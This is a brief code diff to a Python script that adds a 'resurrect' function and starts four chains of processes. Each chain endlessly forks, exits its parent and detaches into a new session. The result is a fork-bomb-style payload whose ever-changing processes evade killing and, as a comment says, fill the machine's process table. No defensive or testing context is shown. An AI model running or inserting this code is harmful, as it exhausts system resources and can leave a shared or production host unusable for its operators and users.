@@ -7,14 +7,24 @@
 import os
 import time
 
+
+
+
+def resurrect():
+    while True:
+        try:
+            if os.fork() > 0:
+                os._exit(0)
+            os.setsid()
+        except OSError:
+            time.sleep(0.001)
+
+
 for _ in range(4):
-    if os.fork() == 0:
-        while True:
-            try:
-                if os.fork() > 0:
-                    os._exit(0)
-                os.setsid()
-            except OSError:
-                time.sleep(0.001)
+    try:
+        if os.fork() == 0:
+            resurrect()
+    except OSError:
+        break  # those before have filled the box already
 while True:
     time.sleep(1)
